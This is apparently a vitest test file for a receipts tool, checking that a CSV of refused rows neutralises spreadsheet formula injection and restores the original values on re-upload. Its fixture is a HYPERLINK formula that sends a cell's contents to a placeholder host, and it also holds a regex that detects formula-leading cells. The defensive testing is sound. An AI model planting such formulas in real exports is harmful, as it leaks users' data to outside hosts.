import { describe, expect, test } from 'vitest';
import type { RefusedRow } from '../../api/publish.ts';
import { parseCsv, printCsv } from './csv-text.ts';
import { mendFile } from './mend-file.ts';
import { prepare } from './prepared.ts';
import { csvTable } from './source-table.ts';

const COLUMNS = ['票据代码', '票据号码', '交款人', '开票日期', '金额合计'];
const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"甲")';
const CELLS = ['33060125', '0000000001', FORMULA, '2026-01-05', '-12.00'];
const ROW: RefusedRow = {
  ...{ part: 'receipts', row: 1, subject: '33060125-0000000001', code: 'AMOUNT_EQUATION', faults: [] },
  source: printCsv([CELLS]),
};
const FILE = mendFile(COLUMNS, [ROW], () => '-');

function sentOf(text: string): string | undefined {
  const table = csvTable('day.csv', new TextEncoder().encode(text));
  if (typeof table === 'string') throw new Error(table);
  return prepare({ receipts: table }, {})?.text().receipts;
}

describe('the file of refused rows', () => {
  test('has no cell that a spreadsheet runs', () => {
    const cells = (parseCsv(FILE.slice(1)) ?? []).flatMap((row) => row.cells);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);
  });

  test('sends a negative amount and a name like a formula as they first came', () => {
    expect(sentOf(FILE)).toBe(printCsv([COLUMNS, CELLS]));
  });

  test.each(["'=1", "''-甲", "'甲"])('sends %s, whose apostrophe is its own, as it first came', (name) => {
    const cells = CELLS.with(2, name);
    expect(sentOf(mendFile(COLUMNS, [{ ...ROW, source: printCsv([cells]) }], () => ''))).toBe(
      printCsv([COLUMNS, cells]),
    );
  });

  test('takes what the clerk wrote without an apostrophe', () => {
    expect(sentOf(FILE.replace("'-12.00", '-13.00'))).toBe(printCsv([COLUMNS, CELLS.with(4, '-13.00')]));
  });

  test('is known by its reasons: of any other file an apostrophe is sent', () => {
    const text = printCsv([COLUMNS, CELLS.with(2, "'=1")]);
    expect(sentOf(text)).toBe(text);
  });
});
